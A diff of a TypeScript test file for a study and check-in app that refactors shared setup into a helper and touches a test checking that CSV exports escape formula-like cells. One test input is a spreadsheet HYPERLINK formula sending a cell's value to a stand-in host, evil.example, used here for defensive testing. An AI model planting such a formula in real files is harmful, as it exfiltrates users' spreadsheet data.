@@ -557,30 +557,36 @@ describe(`withdrawing with delete after the study ended (${testBackend})`, () =>
   });
 });
 
+/** lee, ana (both without a journal yet), and lee's study of check-ins and notes with one code. */
+async function coordinatorAndParticipant(store: Store) {
+  const made = async (username: string) => {
+    const user = await createUser(store.db, {
+      username,
+      role: "member",
+      createdAt: T0.toString(),
+    });
+    await saveProfile(store.db, user.id, profile(), T0.toString());
+    return user.id;
+  };
+  const lee = await made("lee");
+  const ana = await made("ana");
+  const study = await createStudy(
+    store,
+    lee,
+    { ...studyInput, consent: { ...consentV1, collects: ["checkIns", "notes"] } },
+    T0,
+  );
+  const [invite] = await createInvitations(store, lee, study.id, { count: 1 }, T0);
+  return { lee, ana, study, invite };
+}
+
 describe(`what a study keeps after a withdrawal stays as it was (${testBackend})`, () => {
   let store: Store;
   after(() => store?.close());
 
   test("an edit after withdrawing never reaches the study; the entry can be deleted", async () => {
     store = await openTestStore();
-    const made = async (username: string) => {
-      const user = await createUser(store.db, {
-        username,
-        role: "member",
-        createdAt: T0.toString(),
-      });
-      await saveProfile(store.db, user.id, profile(), T0.toString());
-      return user.id;
-    };
-    const lee = await made("lee");
-    const ana = await made("ana");
-    const study = await createStudy(
-      store,
-      lee,
-      { ...studyInput, consent: { ...consentV1, collects: ["checkIns", "notes"] } },
-      T0,
-    );
-    const [invite] = await createInvitations(store, lee, study.id, { count: 1 }, T0);
+    const { lee, ana, study, invite } = await coordinatorAndParticipant(store);
     // Before joining, and the day before: never the study's.
     const own = await logCheckIn(store, ana, { at: at(-1), mood: 4, anxiety: 4 }, at(-1));
     await joinStudy(store, ana, { code: invite?.code ?? "", consentVersion: 1 }, T0);
@@ -622,24 +628,7 @@ describe(`a study's CSV never hands a spreadsheet a participant's formula (${tes
 
   test("text cells that start like a formula get a ' first; JSON keeps them as written", async () => {
     store = await openTestStore();
-    const made = async (username: string) => {
-      const user = await createUser(store.db, {
-        username,
-        role: "member",
-        createdAt: T0.toString(),
-      });
-      await saveProfile(store.db, user.id, profile(), T0.toString());
-      return user.id;
-    };
-    const lee = await made("lee");
-    const ana = await made("ana");
-    const study = await createStudy(
-      store,
-      lee,
-      { ...studyInput, consent: { ...consentV1, collects: ["checkIns", "notes"] } },
-      T0,
-    );
-    const [invite] = await createInvitations(store, lee, study.id, { count: 1 }, T0);
+    const { lee, ana, study, invite } = await coordinatorAndParticipant(store);
     await joinStudy(store, ana, { code: invite?.code ?? "", consentVersion: 1 }, T0);
     const notes = [
       '=HYPERLINK("https://evil.example/?"&A1,"click")',
